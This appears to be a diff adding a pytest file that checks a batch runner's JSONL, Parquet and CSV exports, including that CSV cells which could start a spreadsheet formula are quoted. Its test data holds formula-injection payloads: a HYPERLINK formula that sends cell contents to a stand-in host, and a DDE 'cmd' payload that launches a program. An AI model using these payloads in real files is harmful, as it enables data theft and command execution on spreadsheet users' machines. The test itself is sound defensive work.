@@ -1,0 +1,137 @@
+"""The flat exports as a user reads them: each format read back with its own reader (json, pyarrow, the csv
+module) against the Batch export's answer and the submitted input, and the csv opened in a spreadsheet.
+
+One job serves every test here: its lines carry text that breaks naive writers (quotes, line breaks, NUL,
+characters beyond the BMP, a 100,000-character prompt) and answers a spreadsheet would run as formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as pq
+import pytest
+
+from tests.conftest import Cli, run_args, start_mock
+
+pytestmark = pytest.mark.e2e
+
+# custom_id -> (input, the mock's answer, metadata.gold)
+LINES: dict[str, tuple[str, str, str | None]] = {
+    "quotes": ('he said "hi", then\r\nleft\ttab', 'a "q", b\nc\r\nd\x00e\u2028f', None),
+    "astral": ("\U0001f600 \U0001d54f", "\U0001f600\U0001d54f \u00e9", "\U0001f600"),
+    "long": ("x" * 100_000, "short answer", None),
+    "=1+1": ('=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|' /C calc'!A0", "=1+2"),
+    "plus": ("+1", "+SUM(1,2)", None),
+    "minus": ("-2+3", "- first point\n- second point", "-5"),
+    "at": ("@SUM(1)", "@SUM(A1)", None),
+    "tab": ("\t=1", "\t=2", None),
+    "cr": ("\r=1", "\r=2", None),
+    "number": ("-12.5", "-42", "+7"),
+}
+# A line the mock fails for good (400): its row goes to --errors.
+FAILED = "=failed"
+# What a spreadsheet takes for a formula: a cell that starts with one of these (OWASP's list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@dataclass
+class Answered:
+    cli: Cli
+    job: str
+    dir: Path
+
+    def export(self, fmt: str, name: str) -> Path:
+        r = self.cli("export", self.job, "--format", fmt, "-o", name)
+        assert r.returncode == 0, r.stderr
+        return self.dir / name
+
+
+@pytest.fixture(scope="module")
+def answered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Answered]:
+    tmp = tmp_path_factory.mktemp("flat")
+    src = tmp / "in.jsonl"
+    with src.open("w", encoding="utf-8") as f:
+        for cid, (text, answer, gold) in LINES.items():
+            metadata = {"mock_outputs": json.dumps([answer])} | ({"gold": gold} if gold is not None else {})
+            body = {"model": "gpt-4.1-mini", "input": text, "metadata": metadata}
+            f.write(json.dumps({"custom_id": cid, "method": "POST", "url": "/v1/responses", "body": body}) + "\n")
+        body = {"model": "gpt-4.1-mini", "input": "fail", "metadata": {"mock_error": "invalid_prompt"}}
+        f.write(json.dumps({"custom_id": FAILED, "method": "POST", "url": "/v1/responses", "body": body}) + "\n")
+    mock = start_mock()
+    try:
+        cli = Cli(tmp / "runner.db")
+        job = cli.submit(src)
+        r = cli("run", job, *run_args(mock, "--quiet"))
+        assert r.returncode == 1, r.stderr  # the one scripted failure
+        yield Answered(cli, job, tmp)
+    finally:
+        mock.stop()
+
+
+def batch_answers(a: Answered) -> dict[str, str]:
+    """Each line's answer as the Batch export carries it: the stored Response object's output_text."""
+    rows = read_jsonl(a.export("batch", "b.jsonl"))
+    return {r["custom_id"]: r["response"]["body"]["output_text"] for r in rows if r["custom_id"] != FAILED}
+
+
+def read_jsonl(path: Path) -> list[dict[str, Any]]:
+    # One record per "\n": str.splitlines() would also split inside an answer holding U+2028, which JSON
+    # leaves unescaped.
+    return [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    csv.field_size_limit(sys.maxsize)  # the 100,000-character prompt is past the csv module's default limit
+    with path.open(newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_jsonl_flat_and_parquet_give_back_each_answer_and_input_exactly(answered: Answered) -> None:
+    want = batch_answers(answered)
+    assert want == {cid: answer for cid, (_, answer, _) in LINES.items()}
+    flat = read_jsonl(answered.export("jsonl-flat", "f.jsonl"))
+    parquet = pq.read_table(answered.export("parquet", "p.parquet")).to_pylist()
+    for r in flat:  # parquet spreads the metadata over one column per key
+        r["metadata.gold"] = r.pop("metadata").get("gold")
+    for rows in (flat, parquet):
+        assert [r["custom_id"] for r in rows] == [*LINES, FAILED]
+        *answers, failed = rows
+        assert (failed["status"], failed["output_text"]) == ("failed", None)
+        assert [(r["input"], r["output_text"], r["metadata.gold"]) for r in answers] == list(LINES.values())
+
+
+def test_csv_reads_back_exactly_except_formula_cells_which_get_a_quote(answered: Answered) -> None:
+    rows = read_csv(answered.export("csv", "c.csv"))
+    assert [r["custom_id"] for r in rows] == [("'" + c if c.startswith(FORMULA_START) else c) for c in [*LINES, FAILED]]
+    assert rows.pop()["error"].startswith("invalid_prompt: ")
+
+    def as_spreadsheet_text(value: str) -> str:
+        # A plain number is data (a spreadsheet shows -42 as a number); anything else that starts like a
+        # formula is written with a leading ' so the spreadsheet shows it as text instead of evaluating it.
+        return "'" + value if value.startswith(FORMULA_START) and not is_number(value) else value
+
+    for r, (text, answer, gold) in zip(rows, LINES.values(), strict=True):
+        assert r["input"] == as_spreadsheet_text(text)
+        assert r["output_text"] == as_spreadsheet_text(answer)
+        assert r["metadata.gold"] == ("" if gold is None else as_spreadsheet_text(gold))
+        assert r["status"] == "completed" and int(r["total_tokens"]) > 0  # numbers stay numbers
+    # No cell in the file starts a formula: what a spreadsheet would run is quoted, numbers aside.
+    with (answered.dir / "c.csv").open(newline="", encoding="utf-8") as f:
+        for record in csv.reader(f):
+            for cell in record:
+                assert not cell.startswith(FORMULA_START) or is_number(cell), cell
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
